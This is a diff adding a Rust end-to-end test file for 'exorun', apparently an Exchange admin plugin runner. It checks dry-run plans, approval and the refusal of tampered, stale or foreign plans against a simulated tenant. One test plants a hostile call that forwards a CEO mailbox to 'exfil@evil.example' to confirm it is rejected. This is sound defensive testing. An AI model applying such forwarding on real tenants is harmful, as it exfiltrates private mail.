@@ -1,0 +1,402 @@
+//! What-if and approval end to end: `exorun run --what-if` of a write
+//! plugin against a simulated tenant (HTTPS, in this test process, so its
+//! state can be compared), `exorun plan show`, `exorun apply`.
+
+use std::path::{Path, PathBuf};
+
+use exorun_cmdlet::{Call, Value};
+use exorun_e2e::{Exorun, built_plugin, exorun};
+use exorun_plan::Plan;
+use exorun_sim::{RunningSim, SimConfig, TenantSource};
+use exorun_sim_tenant::{Caller, GenerateOptions, Tenant};
+
+const MAILBOXES: usize = 200;
+const SEED: u64 = 1;
+
+struct Setup {
+    sim: RunningSim,
+    dir: tempfile::TempDir,
+    plugin: String,
+}
+
+impl Setup {
+    async fn start() -> Setup {
+        let dir = tempfile::tempdir().unwrap();
+        let sim = exorun_sim::start(SimConfig {
+            tenant: TenantSource::Generate {
+                mailboxes: MAILBOXES,
+                seed: SEED,
+            },
+            state_dir: dir.path().join("state"),
+            ..SimConfig::default()
+        })
+        .await
+        .unwrap();
+        let plugin = built_plugin("tests/plugins/forwarding-cleanup")
+            .parent()
+            .unwrap()
+            .display()
+            .to_string();
+        Setup { sim, dir, plugin }
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+
+    /// `exorun <args> <connection flags> --audit-log …`, off the runtime's
+    /// threads so the simulator keeps serving.
+    async fn exorun(&self, args: &[&str]) -> Exorun {
+        let info = &self.sim.info;
+        let password = self.path("pfx.password");
+        std::fs::write(&password, &info.client_certificate_pfx_password).unwrap();
+        let mut all: Vec<String> = args.iter().map(|a| a.to_string()).collect();
+        for (flag, value) in [
+            ("--organization", info.initial_domain.clone()),
+            ("--app-id", info.app_id.clone()),
+            (
+                "--certificate-file-path",
+                info.client_certificate_pfx.display().to_string(),
+            ),
+            (
+                "--certificate-password-file",
+                password.display().to_string(),
+            ),
+            ("--authority", info.login_base.clone()),
+            ("--exchange-url", info.exchange_base.clone()),
+            ("--ca-file", info.ca_pem.display().to_string()),
+            (
+                "--audit-log",
+                self.path("audit.jsonl").display().to_string(),
+            ),
+        ] {
+            all.push(flag.to_owned());
+            all.push(value);
+        }
+        tokio::task::spawn_blocking(move || {
+            let args: Vec<&str> = all.iter().map(String::as_str).collect();
+            exorun(&args)
+        })
+        .await
+        .unwrap()
+    }
+
+    async fn what_if(&self, plan: &Path) -> Exorun {
+        self.exorun(&[
+            "run",
+            &self.plugin,
+            "--what-if",
+            "--plan",
+            plan.to_str().unwrap(),
+            "--outputs-dir",
+            self.path("outputs").to_str().unwrap(),
+        ])
+        .await
+    }
+
+    fn audit(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.path("audit.jsonl"))
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    }
+}
+
+/// The tenant as it is after running `calls` on a fresh copy of the
+/// simulator's starting tenant.
+fn expected_after(calls: &[Call], app_id: &str) -> String {
+    let tenant = Tenant::generate(&GenerateOptions {
+        mailboxes: MAILBOXES,
+        seed: SEED,
+    });
+    for call in calls {
+        tenant
+            .execute(&Caller::exchange_administrator(app_id), call)
+            .unwrap_or_else(|e| panic!("{call:?}: {e:?}"));
+    }
+    tenant.to_json()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_if_changes_nothing_and_apply_makes_exactly_the_planned_changes() {
+    let setup = Setup::start().await;
+    let before = setup.sim.tenant.to_json();
+    let plan_path = setup.path("cleanup.plan.json");
+
+    let out = setup.what_if(&plan_path).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(
+        setup.sim.tenant.to_json(),
+        before,
+        "the what-if changed the tenant"
+    );
+    assert!(
+        out.stderr
+            .contains("exorun: what-if: nothing was changed; "),
+        "{}",
+        out.stderr
+    );
+
+    let read = Plan::read(&plan_path).unwrap();
+    let plan = &read.plan;
+    assert!(
+        plan.calls.len() >= 3,
+        "too few changes to test: {:?}",
+        plan.calls
+    );
+    assert!(plan.calls.iter().all(|c| !c.is_read_only()));
+    assert!(plan.calls.iter().any(|c| c.cmdlet == "Set-Mailbox"));
+    assert!(plan.calls.iter().any(|c| c.cmdlet == "Remove-InboxRule"));
+    assert_eq!(plan.tenant, setup.sim.info.initial_domain);
+    assert_eq!(plan.plugin.name, "forwarding-cleanup");
+    assert_eq!(
+        plan.calls[0].get("ForwardingSmtpAddress").is_some(),
+        plan.calls[0].cmdlet == "Set-Mailbox"
+    );
+    // The plugin ran to its end on simulated successes, and said so.
+    assert!(
+        out.stdout.contains(&format!(
+            "{MAILBOXES} mailboxes, {} changes",
+            plan.calls.len()
+        )),
+        "{}",
+        out.stdout
+    );
+
+    // The what-if's writes are in the audit trail as planned, never sent.
+    let audit = setup.audit();
+    let planned: Vec<&serde_json::Value> =
+        audit.iter().filter(|r| r["outcome"] == "planned").collect();
+    assert_eq!(planned.len(), plan.calls.len());
+    assert!(
+        planned
+            .iter()
+            .all(|r| r["mode"] == "what-if" && r.get("clientRequestId").is_none())
+    );
+    let end = audit.last().unwrap();
+    assert_eq!(end["kind"], "run-end");
+    assert_eq!(end["plan"], read.sha256.as_str());
+
+    let show = exorun(&["plan", "show", plan_path.to_str().unwrap()]);
+    assert_eq!(show.code, 0, "{}", show.stderr);
+    assert!(
+        show.stdout.contains(&format!("(sha256 {})", read.sha256)),
+        "{}",
+        show.stdout
+    );
+    assert!(
+        show.stdout
+            .contains(&format!("\n{} changes to ", plan.calls.len())),
+        "{}",
+        show.stdout
+    );
+    let first = exorun_plan::render::render_call(&plan.calls[0], None);
+    assert!(
+        show.stdout.contains(&format!("  1  {first}\n")),
+        "{}",
+        show.stdout
+    );
+    let object = exorun_plan::render::object_of(&plan.calls[0]);
+    assert!(
+        show.stdout.contains(&format!("\n{object}\n  ")),
+        "{}",
+        show.stdout
+    );
+
+    let applied = setup
+        .exorun(&["apply", plan_path.to_str().unwrap(), "--yes"])
+        .await;
+    assert_eq!(applied.code, 0, "{}", applied.stderr);
+    assert!(
+        applied.stderr.contains(&format!(
+            "exorun: applied {0} of {0} changes to {1}",
+            plan.calls.len(),
+            setup.sim.info.initial_domain
+        )),
+        "{}",
+        applied.stderr
+    );
+    let after = setup.sim.tenant.to_json();
+    assert_ne!(after, before);
+    assert_eq!(after, expected_after(&plan.calls, &setup.sim.info.app_id));
+
+    let audit = setup.audit();
+    let apply_records: Vec<&serde_json::Value> =
+        audit.iter().filter(|r| r["mode"] == "apply").collect();
+    assert_eq!(apply_records.len(), plan.calls.len() + 2);
+    assert!(
+        apply_records
+            .iter()
+            .all(|r| r["plan"] == read.sha256.as_str())
+    );
+    let calls: Vec<&&serde_json::Value> = apply_records
+        .iter()
+        .filter(|r| r["kind"] == "call")
+        .collect();
+    for (record, call) in calls.iter().zip(&plan.calls) {
+        assert_eq!(record["cmdlet"], call.cmdlet.as_str());
+        assert_eq!(record["outcome"], "ok");
+        assert_eq!(record["clientRequestId"].as_str().map(str::len), Some(36));
+    }
+    let verified = exorun(&[
+        "audit",
+        "verify",
+        setup.path("audit.jsonl").to_str().unwrap(),
+    ]);
+    assert_eq!(verified.code, 0, "{}", verified.stdout);
+}
+
+/// Writes a changed copy of a plan, sealed as `exorun` seals plans.
+fn reseal(from: &Path, to: &Path, change: impl FnOnce(&mut Plan)) {
+    let mut plan = Plan::read(from).unwrap().plan;
+    change(&mut plan);
+    plan.write_new(to).unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_stale_altered_or_foreign_plan_is_refused_and_nothing_is_sent() {
+    let setup = Setup::start().await;
+    let plan_path = setup.path("cleanup.plan.json");
+    let out = setup.what_if(&plan_path).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let before = setup.sim.tenant.to_json();
+    let requests = setup.sim.invoke_requests();
+
+    let refused = |out: &Exorun, reason: &str| {
+        assert_eq!(out.code, 1, "{}", out.stderr);
+        assert!(
+            out.stderr
+                .contains(&format!("exorun: apply refused: {reason}")),
+            "{reason}\n{}",
+            out.stderr
+        );
+        assert!(out.stderr.contains("; nothing was sent"), "{}", out.stderr);
+    };
+
+    let altered = setup.path("altered.plan.json");
+    let text = std::fs::read_to_string(&plan_path).unwrap();
+    let first_identity = Plan::read(&plan_path).unwrap().plan.calls[0]
+        .get("Identity")
+        .and_then(Value::as_text)
+        .unwrap()
+        .to_owned();
+    std::fs::write(
+        &altered,
+        text.replacen(&first_identity, "ceo@contoso.com", 1),
+    )
+    .unwrap();
+    let out = setup
+        .exorun(&["apply", altered.to_str().unwrap(), "--yes"])
+        .await;
+    refused(&out, "the plan ");
+    assert!(
+        out.stderr.contains("was altered after it was written"),
+        "{}",
+        out.stderr
+    );
+
+    let stale = setup.path("stale.plan.json");
+    reseal(&plan_path, &stale, |p| {
+        p.created_at = exorun_audit::format_rfc3339_millis(
+            std::time::SystemTime::now() - std::time::Duration::from_secs(2 * 86_400),
+        );
+    });
+    let out = setup
+        .exorun(&["apply", stale.to_str().unwrap(), "--yes"])
+        .await;
+    refused(
+        &out,
+        "the plan was written 2 d ago, longer than the 24 h a plan may wait (--max-age)",
+    );
+    let out = setup
+        .exorun(&[
+            "apply",
+            plan_path.to_str().unwrap(),
+            "--yes",
+            "--max-age",
+            "0s",
+        ])
+        .await;
+    refused(&out, "the plan was written ");
+
+    let other_build = setup.path("other-build.plan.json");
+    reseal(&plan_path, &other_build, |p| {
+        p.plugin.sha256 = "00".repeat(32)
+    });
+    let out = setup
+        .exorun(&["apply", other_build.to_str().unwrap(), "--yes"])
+        .await;
+    refused(
+        &out,
+        &format!(
+            "the plan was made by plugin build sha256 {}",
+            "00".repeat(32)
+        ),
+    );
+
+    let other_tenant = setup.path("other-tenant.plan.json");
+    reseal(&plan_path, &other_tenant, |p| {
+        p.tenant = "fabrikam.onmicrosoft.com".into()
+    });
+    let out = setup
+        .exorun(&["apply", other_tenant.to_str().unwrap(), "--yes"])
+        .await;
+    refused(
+        &out,
+        &format!(
+            "the plan is for tenant fabrikam.onmicrosoft.com, but this connection is to {}",
+            setup.sim.info.initial_domain
+        ),
+    );
+
+    let outside = setup.path("outside.plan.json");
+    reseal(&plan_path, &outside, |p| {
+        p.calls.push(
+            Call::new("Set-Mailbox")
+                .param("Identity", "ceo@contoso.com")
+                .param("ForwardingSmtpAddress", "exfil@evil.example"),
+        )
+    });
+    let out = setup
+        .exorun(&["apply", outside.to_str().unwrap(), "--yes"])
+        .await;
+    refused(&out, "call ");
+    assert!(
+        out.stderr.contains("is no longer allowed by the manifest"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr
+            .contains("[validate-set:Set-Mailbox/ForwardingSmtpAddress]"),
+        "{}",
+        out.stderr
+    );
+
+    let out = setup
+        .exorun(&[
+            "apply",
+            plan_path.to_str().unwrap(),
+            "--yes",
+            "--expect-sha256",
+            &"ab".repeat(32),
+        ])
+        .await;
+    refused(&out, "the plan file has sha256 ");
+
+    let out = setup.exorun(&["apply", plan_path.to_str().unwrap()]).await;
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(
+        out.stderr.contains("pass --yes to apply without asking"),
+        "{}",
+        out.stderr
+    );
+
+    assert_eq!(setup.sim.tenant.to_json(), before);
+    assert_eq!(
+        setup.sim.invoke_requests(),
+        requests,
+        "a refused apply sent a request"
+    );
+}
